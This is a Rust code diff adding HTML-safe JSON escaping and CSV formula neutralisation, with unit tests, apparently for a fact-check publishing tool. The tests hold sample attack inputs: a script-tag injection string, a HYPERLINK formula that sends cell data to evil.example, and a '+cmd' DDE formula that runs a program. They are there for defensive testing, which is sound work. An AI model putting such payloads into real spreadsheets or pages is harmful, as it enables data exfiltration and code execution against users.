@@ -78,6 +78,42 @@ fn markdown_line(line: &str) -> String {
     out
 }
 
+/// Makes JSON text safe to embed in an HTML `<script type="application/ld+json">`
+/// element, as publishers embed ClaimReview: `<`, `>` and `&` become `\u003c`,
+/// `\u003e` and `\u0026`. A JSON parser reads the same strings back, but the HTML
+/// parser never sees `</script>` (which would end the element and run whatever
+/// follows) or `<!--`.
+///
+/// Outside strings JSON never uses these characters, so replacing them everywhere
+/// in the serialised text only touches string contents.
+pub fn json_for_html(json: &str) -> String {
+    let mut out = String::with_capacity(json.len());
+    for c in json.chars() {
+        match c {
+            '<' => out.push_str("\\u003c"),
+            '>' => out.push_str("\\u003e"),
+            '&' => out.push_str("\\u0026"),
+            _ => out.push(c),
+        }
+    }
+    out
+}
+
+/// The characters a spreadsheet reads as the start of a formula (OWASP's list:
+/// `=`, `+`, `-`, `@`, tab, carriage return).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Neutralises a CSV cell that a spreadsheet would run as a formula
+/// (`=HYPERLINK(...)`, `+cmd|...`): a leading `'` makes it text, as OWASP's
+/// "CSV Injection" guidance recommends. Other cells are unchanged.
+pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(FORMULA_STARTS) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
 /// The URL if it is safe to make a link of (http, https or mailto), else `None`; other
 /// schemes such as `javascript:` are shown as plain text only.
 pub fn linkable_url(url: &str) -> Option<&str> {
@@ -142,5 +178,33 @@ mod tests {
         assert_eq!(linkable_url("https://a.example/x y"), None);
         assert_eq!(linkable_url("data:text/html,<b>"), None);
         assert_eq!(markdown_url("https://a/(b) c"), "https://a/%28b%29%20c");
+    }
+
+    #[test]
+    fn json_for_html_hides_markup_from_the_html_parser() {
+        let payload = "</script><script>document.title='x'</script> <!-- & -->";
+        let json = serde_json::to_string(&payload).unwrap();
+        let safe = json_for_html(&json);
+        assert!(!safe.contains(['<', '>', '&']), "{safe}");
+        assert!(safe.contains("\\u003c/script\\u003e"), "{safe}");
+        let back: String = serde_json::from_str(&safe).unwrap();
+        assert_eq!(back, payload);
+    }
+
+    #[test]
+    fn csv_cells_that_start_a_formula_become_text() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "+cmd|'/C calc'!A0",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(csv_cell(formula), format!("'{formula}"));
+        }
+        for plain in ["Mostly true", "", " =not at the start", "3 - 2", "'quoted"] {
+            assert_eq!(csv_cell(plain), plain);
+        }
     }
 }
